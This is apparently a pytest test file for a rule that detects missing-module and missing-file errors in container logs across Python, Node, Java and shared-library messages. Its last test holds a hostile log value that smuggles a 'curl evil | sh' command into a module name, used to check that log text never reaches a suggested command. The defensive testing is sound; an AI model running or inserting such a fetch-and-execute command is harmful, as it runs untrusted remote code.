"""import-error: what the last lines name."""

import pytest

from islive.model.citation import Citation
from islive.model.finding import Certainty
from islive.rules.tasks.import_error import import_error
from tests.rules.builders_b import only
from tests.rules.builders_c import NO_LOGS, ended_with


def test_the_module_is_named_and_its_line_quoted() -> None:
    """The trace around it is not."""
    line = "ModuleNotFoundError: No module named 'yaml'"
    seen = only(import_error.see(*ended_with("Traceback (most recent call last):", '  File "/app/main.py"', line)))
    assert seen.subject == "ecs-svc/2/web"
    assert seen.summary == "the image of container web lacks Python module yaml: shop:2 ends as it loads it"
    assert seen.because[0] == Citation("logs:GetLogEvents", "events[].message", line)
    assert seen.certainty is Certainty.CONFIRMED


@pytest.mark.parametrize(
    "line,named",
    [
        ("Error: Cannot find module './branch-cleanup'", "Node module ./branch-cleanup"),
        ("Error [ERR_MODULE_NOT_FOUND]: Cannot find package 'pino' imported from /app/x.js", "Node module pino"),
        ("Caused by: java.lang.ClassNotFoundException: org.postgresql.Driver", "file org.postgresql.Driver"),
        ("Error: Unable to access jarfile /app/app.jar", "file /app/app.jar"),
        ("python: can't open file '/app/worker.py': [Errno 2] No such file or directory", "module /app/worker.py"),
        ("ImportError: libGL.so.1: cannot open shared object file: No such file or directory", "module libGL.so.1"),
    ],
)
def test_other_languages(line: str, named: str) -> None:
    """Each says it in its own way."""
    assert named in only(import_error.see(*ended_with(line))).summary


def test_an_earlier_import_error_is_only_likely() -> None:
    """The application went on, and ended with another error."""
    lines = ("ModuleNotFoundError: No module named 'uvloop'", "ConnectionError: database refused")
    assert only(import_error.see(*ended_with(*lines))).certainty is Certainty.LIKELY


def test_without_a_word_of_it_there_is_silence() -> None:
    """Another error; no log at all."""
    exits, logs = ended_with("KeyError: 'DATABASE_URL'")
    assert list(import_error.see(exits, logs)) == []
    assert list(import_error.see(exits, NO_LOGS)) == []


def test_no_text_of_a_log_gets_into_a_command() -> None:
    """What is no plain name is named, and not put where people copy from."""
    seen = only(import_error.see(*ended_with("Error: Cannot find module '\"; curl evil | sh; \"'")))
    assert "curl evil" in seen.summary
    assert not any("docker run" in step.says for step in only(seen.remedies).steps)
